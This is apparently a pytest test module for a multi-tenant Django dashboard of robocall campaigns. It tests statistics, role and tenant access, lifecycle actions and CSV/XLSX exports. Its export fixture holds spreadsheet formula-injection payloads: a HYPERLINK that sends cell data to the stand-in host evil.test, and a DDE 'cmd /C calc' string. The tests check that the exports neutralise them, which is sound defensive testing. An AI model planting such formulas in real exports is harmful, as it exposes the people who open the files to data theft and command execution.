"""Dashboard: access per role and tenant for every view, the campaign report's figures on data with known answers,
the call list's filters and pages, lifecycle buttons, and CSV/XLSX exports that no spreadsheet evaluates."""

import csv
import datetime as dt
import io
import zipfile
from dataclasses import dataclass

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns import selectors
from campaigns.models import CallAttempt, Campaign, CampaignEvent, Contact, Turn
from campaigns.views.charts import disposition_bars, hourly_bars
from tests.campaigns.test_tenancy import write_wav
from tests.factories import CallAttemptFactory, CampaignFactory, ContactFactory, TurnFactory, UserFactory

UTC = dt.UTC


def at(hour: int, minute: int = 0, day: int = 2) -> dt.datetime:
    return dt.datetime(2026, 3, day, hour, minute, tzinfo=UTC)


@dataclass
class Report:
    campaign: Campaign
    agreed: CallAttempt
    hung_up: CallAttempt
    busy: list[CallAttempt]
    waiting: CallAttempt


@pytest.fixture
def report(tenant) -> Report:
    """Four contacts with known figures (see test_campaign_stats_on_known_data)."""
    campaign = CampaignFactory(tenant=tenant, name="Flu Shots Spring", status=Campaign.Status.RUNNING)
    c1 = ContactFactory(campaign=campaign, first_name="Ada", last_name="Agree", phone="+12025550101", attempts_made=1)
    c2 = ContactFactory(campaign=campaign, first_name="Bo", last_name="Hangup", phone="+12025550102", attempts_made=1)
    c3 = ContactFactory(
        campaign=campaign, first_name="Cy", last_name="Busy", phone="+12025550106", attempts_made=2, status="done"
    )
    c4 = ContactFactory(campaign=campaign, first_name="Di", last_name="Waiting", phone="+12025550107")
    finalized = CallAttempt.Status.FINALIZED
    agreed = CallAttemptFactory(
        contact=c1, status=finalized, disposition="interested", dial_status="answered", dialed_at=at(10, 5),
        answered_at=at(10, 5), ended_at=at(10, 6), talk_ms=60_000, end_reason="robot_hangup",
        recording=f"tenant_{tenant.id}/recordings/agreed.wav",
    )  # fmt: skip
    TurnFactory(attempt=agreed, index=0, speaker="robot", text="Hello Ada, will you come?", start_ms=0, end_ms=2000,
                confidence=0.1)  # fmt: skip
    TurnFactory(attempt=agreed, index=1, speaker="callee", text="Yes I will", intent="affirm", confidence=0.9,
                start_ms=2500, end_ms=3500, asr_latency_ms=200)  # fmt: skip
    TurnFactory(attempt=agreed, index=2, speaker="robot", text="Thank you. Goodbye.", start_ms=3900, end_ms=5000,
                response_latency_ms=400)  # fmt: skip
    hung_up = CallAttemptFactory(
        contact=c2, status=finalized, disposition="unclear", dial_status="answered", dialed_at=at(10, 20),
        answered_at=at(10, 20), ended_at=at(10, 21), talk_ms=30_000, end_reason="callee_hangup",
    )  # fmt: skip
    TurnFactory(attempt=hung_up, index=0, speaker="callee", text="No", intent="deny", confidence=0.5,
                start_ms=1000, end_ms=1500, asr_latency_ms=300)  # fmt: skip
    TurnFactory(attempt=hung_up, index=1, speaker="robot", text="Noted.", start_ms=2100, end_ms=2500,
                response_latency_ms=600)  # fmt: skip
    busy = [
        CallAttemptFactory(
            contact=c3,
            attempt_number=n,
            status=finalized,
            disposition="busy",
            dial_status="busy",
            sip_code=486,
            dialed_at=when,
            ended_at=when,
        )  # fmt: skip
        for n, when in ((1, at(10, 40)), (2, at(11, 10)))
    ]
    waiting = CallAttemptFactory(contact=c4, status=CallAttempt.Status.QUEUED)
    return Report(campaign, agreed, hung_up, busy, waiting)


@pytest.fixture
def noise(tenant, outsider_tenant):
    """Calls in another campaign of the same tenant and in another tenant: no figure may include them."""
    for owner in (CampaignFactory(tenant=tenant), CampaignFactory(tenant=outsider_tenant)):
        attempt = CallAttemptFactory(
            contact=ContactFactory(campaign=owner, attempts_made=5), status=CallAttempt.Status.FINALIZED,
            disposition="failed", dialed_at=at(12), answered_at=at(12), talk_ms=1, end_reason="robot_hangup",
        )  # fmt: skip
        TurnFactory(attempt=attempt, speaker="callee", intent="opt_out", confidence=0.01, asr_latency_ms=9999,
                    response_latency_ms=9999)  # fmt: skip


# --- figures ------------------------------------------------------------------------------------------------


def test_campaign_stats_on_known_data(report, noise, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):
        stats = selectors.campaign_stats(report.campaign)
    assert (stats.dialled, stats.answered, stats.completed) == (4, 2, 1)
    assert stats.answer_rate == 0.5  # 2 of 4 dialled calls answered
    assert stats.completion_rate == 0.5  # 1 of 2 answered calls reached the script's end
    assert stats.talk_ms_avg == 45_000
    assert stats.attempts_per_contact == pytest.approx(4 / 3)  # 1 + 1 + 2 over three contacts dialled
    assert stats.active_hours == 2 and stats.calls_per_hour == 2.0
    assert (stats.first_dialed_at, stats.last_dialed_at) == (at(10, 5), at(11, 10))
    assert stats.turn_latency_p50_ms == 500  # 400 and 600
    assert stats.turn_latency_p99_ms == pytest.approx(598)  # 400 + 0.99 * 200
    assert stats.asr_latency_p50_ms == 250
    assert stats.asr_latency_p99_ms == pytest.approx(299)
    assert stats.asr_confidence_avg == pytest.approx(0.7)  # callee turns only: 0.9 and 0.5


def test_campaign_stats_of_a_campaign_without_calls(tenant):
    stats = selectors.campaign_stats(CampaignFactory(tenant=tenant))
    assert (stats.dialled, stats.answered, stats.active_hours) == (0, 0, 0)
    assert stats.answer_rate is stats.completion_rate is stats.calls_per_hour is stats.talk_ms_avg is None
    assert stats.turn_latency_p50_ms is stats.asr_confidence_avg is stats.attempts_per_contact is None


def test_percentile_is_computed_by_postgresql(report):
    values = Turn.objects.filter(attempt__campaign=report.campaign).aggregate(
        p0=selectors.Percentile("start_ms", 0), p100=selectors.Percentile("start_ms", 1)
    )
    assert values == {"p0": 0, "p100": 3900}
    with pytest.raises(ValueError):
        selectors.Percentile("start_ms", 1.5)


def test_calls_per_hour_series(report, noise):
    assert selectors.calls_per_hour(report.campaign) == [(at(10), 3), (at(11), 1)]
    assert selectors.calls_per_hour(report.campaign, limit=1) == [(at(11), 1)]


def test_progress_for_many_campaigns_equals_one_by_one(report, noise, tenant, django_assert_num_queries):
    campaigns = list(Campaign.objects.all())  # in two tenants
    with django_assert_num_queries(2):  # one read of the counters per tenant
        many = selectors.progress_for_campaigns(campaigns)
    assert many == {c.id: selectors.campaign_progress(c) for c in campaigns}
    assert many[report.campaign.id].by_disposition == {"busy": 2, "interested": 1, "unclear": 1}
    assert many[report.campaign.id].percent == 25  # one contact of four is done


def test_charts_scale_to_the_largest_value():
    bars = disposition_bars({"busy": 2, "interested": 4, "failed": 1}, width=200)
    assert [(b.label, b.value, b.width) for b in bars] == [("interested", 4, 200), ("busy", 2, 100), ("failed", 1, 50)]
    assert [round(b.share, 3) for b in bars] == [0.571, 0.286, 0.143]
    hours = hourly_bars([(at(10), 3), (at(11), 1)], width=100, height=60)
    assert [(b.value, b.height, b.y) for b in hours] == [(3, 60, 0), (1, 20, 40)]
    assert disposition_bars({}) == [] and hourly_bars([]) == []


# --- access: every view ------------------------------------------------------------------------------------


def view_urls(report: Report) -> dict[str, str]:
    c = report.campaign.id
    return {
        "home": reverse("home"),
        "progress": reverse("progress"),
        "campaign": reverse("campaign", args=[c]),
        "campaign-progress": reverse("campaign-progress", args=[c]),
        "calls": reverse("calls", args=[c]),
        "call": reverse("call", args=[report.agreed.id]),
        "recording": reverse("recording", args=[report.agreed.id]),
        "export-csv": reverse("export-csv", args=[c]),
        "export-xlsx": reverse("export-xlsx", args=[c]),
    }


TENANT_VIEWS = ["campaign", "campaign-progress", "calls", "call", "recording", "export-csv", "export-xlsx"]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("view", ["home", "progress", *TENANT_VIEWS])
@pytest.mark.parametrize("role", ["owner", "manager", "viewer"])
def test_members_see_every_view(client, request, report, view, role):
    write_wav(report.agreed.recording)
    client.force_login(request.getfixturevalue(role))
    response = client.get(view_urls(report)[view])
    assert response.status_code == 200


def test_a_superuser_sees_every_view(client, report, django_user_model):
    write_wav(report.agreed.recording)
    client.force_login(django_user_model.objects.create_superuser("root", password="pw-for-tests-1"))
    for view, url in view_urls(report).items():
        assert client.get(url).status_code == 200, view


@pytest.mark.parametrize("view", TENANT_VIEWS)
@pytest.mark.parametrize("user", ["outsider", "nobody"])
def test_other_tenants_objects_are_404(client, request, report, view, user):
    write_wav(report.agreed.recording)
    client.force_login(request.getfixturevalue(user))
    response = client.get(view_urls(report)[view])
    assert response.status_code == 404
    assert b"Flu Shots Spring" not in body(response) and b"Ada" not in body(response)


@pytest.mark.parametrize("user", ["outsider", "nobody"])
def test_home_and_progress_leave_out_other_tenants(client, request, report, user):
    client.force_login(request.getfixturevalue(user))
    assert b"Flu Shots Spring" not in client.get(reverse("home")).content
    assert all(c["id"] != report.campaign.id for c in client.get(reverse("progress")).json()["campaigns"])


@pytest.mark.parametrize("view", ["home", "progress", *TENANT_VIEWS])
def test_anonymous_is_sent_to_log_in(client, report, view):
    url = view_urls(report)[view]
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('admin:login')}?next={url}"


def test_anonymous_lifecycle_post_is_sent_to_log_in(client, report):
    url = reverse("campaign-lifecycle", args=[report.campaign.id, "pause"])
    assert client.post(url)["Location"].startswith(reverse("admin:login"))
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.RUNNING


# --- lifecycle --------------------------------------------------------------------------------------------------


def lifecycle_url(campaign, action: str) -> str:
    return reverse("campaign-lifecycle", args=[campaign.id, action])


@pytest.mark.parametrize("action", ["start", "pause", "resume", "cancel"])
def test_viewer_cannot_change_a_campaign(client, viewer, report, action):
    client.force_login(viewer)
    response = client.post(lifecycle_url(report.campaign, action))
    assert response.status_code == 403
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.RUNNING
    assert not CampaignEvent.objects.filter(campaign=report.campaign).exists()


@pytest.mark.parametrize("user", ["outsider", "nobody"])
def test_outsider_lifecycle_is_404(client, request, report, user):
    client.force_login(request.getfixturevalue(user))
    assert client.post(lifecycle_url(report.campaign, "cancel")).status_code == 404
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.RUNNING


def test_lifecycle_needs_post_and_a_known_action(client, manager, report):
    client.force_login(manager)
    assert client.get(lifecycle_url(report.campaign, "pause")).status_code == 405
    assert client.post(lifecycle_url(report.campaign, "explode")).status_code == 404
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.RUNNING


def test_lifecycle_post_needs_the_csrf_token(report, manager):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(manager)
    assert client.post(lifecycle_url(report.campaign, "pause")).status_code == 403
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.RUNNING
    page = client.get(reverse("campaign", args=[report.campaign.id]))
    token = page.context["csrf_token"]
    assert client.post(lifecycle_url(report.campaign, "pause"), {"csrfmiddlewaretoken": str(token)}).status_code == 302
    assert Campaign.objects.get(id=report.campaign.id).status == Campaign.Status.PAUSED


@pytest.mark.parametrize("role", ["owner", "manager"])
def test_owner_and_manager_drive_the_lifecycle(client, request, tenant, role):
    user = request.getfixturevalue(role)
    campaign = CampaignFactory(tenant=tenant)
    ContactFactory(campaign=campaign)
    client.force_login(user)
    page = client.get(reverse("campaign", args=[campaign.id])).content.decode()
    assert lifecycle_url(campaign, "start") in page and lifecycle_url(campaign, "pause") not in page
    for action, status in (("start", "running"), ("pause", "paused"), ("resume", "running"), ("cancel", "cancelled")):
        response = client.post(lifecycle_url(campaign, action), follow=True)
        assert response.redirect_chain == [(reverse("campaign", args=[campaign.id]), 302)]
        campaign.refresh_from_db()
        assert campaign.status == status
        assert f"{campaign.name}: " in response.content.decode()
    events = CampaignEvent.objects.filter(campaign=campaign)
    assert [e.to_status for e in events] == ["running", "paused", "running", "cancelled"]
    assert {e.actor_id for e in events} == {user.id}


def test_an_impossible_transition_is_reported_not_applied(client, manager, tenant):
    campaign = CampaignFactory(tenant=tenant, status=Campaign.Status.COMPLETED)
    client.force_login(manager)
    response = client.post(lifecycle_url(campaign, "pause"), follow=True)
    assert "only a running campaign can become paused" in response.content.decode()
    assert Campaign.objects.get(id=campaign.id).status == Campaign.Status.COMPLETED


def test_buttons_only_for_roles_that_may_use_them(client, viewer, manager, report):
    url = reverse("campaign", args=[report.campaign.id])
    client.force_login(viewer)
    page = client.get(url).content.decode()
    assert "/pause/" not in page and "/cancel/" not in page and "Export CSV" in page
    client.force_login(manager)
    page = client.get(url).content.decode()
    assert lifecycle_url(report.campaign, "pause") in page and lifecycle_url(report.campaign, "cancel") in page
    assert lifecycle_url(report.campaign, "start") not in page  # already running


# --- pages ------------------------------------------------------------------------------------------------------


def test_home_lists_campaigns_with_progress(client, viewer, report, django_assert_max_num_queries):
    client.force_login(viewer)
    with django_assert_max_num_queries(8):  # not one query set per campaign
        html = client.get(reverse("home")).content.decode()
    assert f'data-campaign="{report.campaign.id}"' in html
    assert 'aria-valuenow="25"' in html and "25 %" in html
    assert f'data-progress-url="{reverse("progress")}"' in html
    assert "campaigns/dashboard.js" in html


def test_progress_json(client, viewer, report):
    client.force_login(viewer)
    expected = {
        "id": report.campaign.id, "status": "running", "active": True, "percent": 25, "contacts": 4,
        "contacts_done": 1, "attempts": 5, "finished": 4, "by_disposition": {"busy": 2, "interested": 1, "unclear": 1},
    }  # fmt: skip
    assert client.get(reverse("progress")).json() == {"campaigns": [expected]}
    response = client.get(reverse("campaign-progress", args=[report.campaign.id]))
    assert response.json() == {"campaigns": [expected]}
    assert "no-cache" in response["Cache-Control"]


def test_campaign_page_shows_the_report(client, viewer, report, noise):
    client.force_login(viewer)
    html = client.get(reverse("campaign", args=[report.campaign.id])).content.decode()
    for text in (
        "50.0 %",  # answer rate and completion rate
        "0:45",  # average talk time
        "1.33",  # attempts per contact
        "2.0",  # calls per hour
        "500 ms / 598 ms",  # turn latency
        "250 ms / 299 ms",  # ASR latency
        "0.70",  # ASR confidence
    ):
        assert text in html, text
    assert 'data-disposition="busy" data-count="2"' in html
    assert 'data-disposition="failed"' not in html  # the noise's calls
    assert html.count("data-hour=") == 2
    assert "Ada Agree" in html and "+12025550101" in html


def test_call_detail_shows_transcript_and_player(client, viewer, report):
    client.force_login(viewer)
    html = client.get(reverse("call", args=[report.agreed.id])).content.decode()
    assert (
        f'<audio id="recording" controls preload="metadata" src="{reverse("recording", args=[report.agreed.id])}"'
        in html
    )
    rows = html.split('data-turn="')[1:]
    assert len(rows) == 3
    assert "callee" in rows[1] and "Yes I will" in rows[1] and "affirm" in rows[1] and "0.90" in rows[1]
    assert "10:05:02" in rows[1] and "+2500 ms" in rows[1]  # answered 10:05:00, turn 2.5 s in
    assert "ASR 200 ms" in rows[1] and "400 ms" in rows[2]
    unanswered = client.get(reverse("call", args=[report.busy[0].id])).content.decode()
    assert "<audio" not in unanswered and "SIP 486" in unanswered and "not answered" in unanswered


def test_recording_is_the_wav(client, viewer, report):
    expected = write_wav(report.agreed.recording)
    client.force_login(viewer)
    response = client.get(reverse("recording", args=[report.agreed.id]))
    assert response["Content-Type"] == "audio/wav" and body(response) == expected


# --- call list ----------------------------------------------------------------------------------------------------


def listed(client, campaign, **params) -> list[int]:
    response = client.get(reverse("calls", args=[campaign.id]), params)
    assert response.status_code == 200
    return [a.id for a in response.context["page"]]


def test_call_list_filters(client, viewer, report, noise):
    client.force_login(viewer)
    r = report
    everything = [r.waiting.id, *(a.id for a in reversed(r.busy)), r.hung_up.id, r.agreed.id]
    assert sorted(listed(client, r.campaign)) == sorted(everything)
    assert sorted(listed(client, r.campaign, disposition="busy")) == sorted(a.id for a in r.busy)
    assert listed(client, r.campaign, intent="affirm") == [r.agreed.id]
    assert listed(client, r.campaign, intent="deny") == [r.hung_up.id]
    assert listed(client, r.campaign, disposition="interested", intent="deny") == []
    # Dates: when the call was dialled; the waiting attempt (never dialled) was created today.
    assert sorted(listed(client, r.campaign, date_from="2026-03-02", date_to="2026-03-02")) == sorted(
        [r.agreed.id, r.hung_up.id, *(a.id for a in r.busy)]
    )
    assert listed(client, r.campaign, date_to="2026-03-01") == []
    html = client.get(reverse("calls", args=[r.campaign.id]), {"intent": "affirm"}).content.decode()
    assert '<option value="affirm" selected>' in html and '<option value="opt_out"' not in html  # noise's intent


def test_call_list_ignores_invalid_filters(client, viewer, report):
    client.force_login(viewer)
    assert len(listed(client, report.campaign, disposition="nonsense", date_from="yesterday")) == 5


def test_call_list_pages_keep_the_filters(client, viewer, tenant):
    campaign = CampaignFactory(tenant=tenant)
    for _ in range(53):
        CallAttemptFactory(contact=ContactFactory(campaign=campaign), disposition="busy")
    CallAttemptFactory(contact=ContactFactory(campaign=campaign), disposition="interested")
    client.force_login(viewer)
    url = reverse("calls", args=[campaign.id])
    first = client.get(url, {"disposition": "busy"})
    assert len(first.context["page"]) == 50 and first.context["page"].paginator.count == 53
    assert "?disposition=busy&amp;page=2" in first.content.decode()
    second = client.get(url, {"disposition": "busy", "page": 2})
    assert len(second.context["page"]) == 3
    assert set(first.context["page"].object_list).isdisjoint(second.context["page"].object_list)
    assert len(client.get(url, {"disposition": "busy", "page": 99}).context["page"]) == 3  # last page


# --- exports ------------------------------------------------------------------------------------------------------

EVIL = {
    "first_name": '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "custom": "-2+3",
    "tab": "\t=1+1",
}


@pytest.fixture
def evil(tenant):
    campaign = CampaignFactory(tenant=tenant, name="Evil")
    contact = ContactFactory(
        campaign=campaign, phone="+12025550111", first_name=EVIL["first_name"], last_name=EVIL["last_name"],
        custom_fields={"note": EVIL["custom"], "other": EVIL["tab"], "bell": "ring\x07ring"},
    )  # fmt: skip
    CallAttemptFactory(contact=contact, status=CallAttempt.Status.FINALIZED, disposition="interested",
                       full_transcript="+1 yes", talk_ms=1234)  # fmt: skip
    ContactFactory(campaign=campaign, phone="+12025550112", first_name="Plain")
    return campaign


def test_csv_export_is_safe_in_a_spreadsheet(client, viewer, evil):
    client.force_login(viewer)
    response = client.get(reverse("export-csv", args=[evil.id]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="campaign-{evil.id}-results.csv"'
    rows = list(csv.DictReader(io.StringIO(body(response).decode())))
    assert len(rows) == 2
    evil_row, plain = rows
    assert evil_row["first_name"] == "'" + EVIL["first_name"]
    assert evil_row["last_name"] == "'" + EVIL["last_name"]
    assert evil_row["note"] == "'-2+3" and evil_row["other"] == "'\t=1+1"
    assert evil_row["phone"] == "'+12025550111" and evil_row["transcript"] == "'+1 yes"
    assert evil_row["disposition"] == "interested" and evil_row["talk_ms"] == "1234"
    assert plain["first_name"] == "Plain" and plain["attempt"] == ""  # never dialled: still one row
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_xlsx_export_has_no_formula(client, viewer, evil):
    client.force_login(viewer)
    response = client.get(reverse("export-xlsx", args=[evil.id]))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="campaign-{evil.id}-results.xlsx"'
    data = body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell is a formula
    sheet = load_workbook(io.BytesIO(data))["Results"]
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    # The exact text, as a string cell marked with a quote prefix (a spreadsheet's leading apostrophe).
    for column, text in (("first_name", EVIL["first_name"]), ("last_name", EVIL["last_name"]),
                         ("note", "-2+3"), ("other", "\t=1+1"), ("phone", "+12025550111")):  # fmt: skip
        assert row[column].value == text, column
        assert row[column].data_type == "s", column
        assert row[column].quotePrefix, column
    assert row["bell"].value == "ringring"  # a control character XML cannot carry is dropped
    assert row["disposition"].value == "interested" and not row["disposition"].quotePrefix
    assert row["talk_ms"].value == 1234 and row["talk_ms"].data_type == "n"
    assert [c.value for c in sheet[3]][header.index("first_name")] == "Plain"
    assert sheet.max_row == 3


def test_exports_count_every_contact_of_the_campaign_only(client, viewer, report, noise):
    client.force_login(viewer)
    rows = list(
        csv.DictReader(io.StringIO(body(client.get(reverse("export-csv", args=[report.campaign.id]))).decode()))
    )
    assert sorted(r["phone"] for r in rows) == sorted(
        ["'+12025550101", "'+12025550102", "'+12025550106", "'+12025550106", "'+12025550107"]
    )
    sheet = load_workbook(io.BytesIO(body(client.get(reverse("export-xlsx", args=[report.campaign.id])))))["Results"]
    assert sheet.max_row == len(rows) + 1


def test_a_viewer_of_one_tenant_managing_another_gets_each_role(client, tenant, outsider_tenant, report):
    from campaigns.models import Membership

    user = UserFactory()
    Membership.objects.create(user=user, tenant=tenant, role="viewer")
    Membership.objects.create(user=user, tenant=outsider_tenant, role="manager")
    other = CampaignFactory(tenant=outsider_tenant)
    Contact.objects.create(tenant=outsider_tenant, campaign=other, phone="+12025550199", timezone="UTC")
    client.force_login(user)
    assert client.post(lifecycle_url(report.campaign, "pause")).status_code == 403
    assert client.post(lifecycle_url(other, "start")).status_code == 302
    assert Campaign.objects.get(id=other.id).status == Campaign.Status.RUNNING
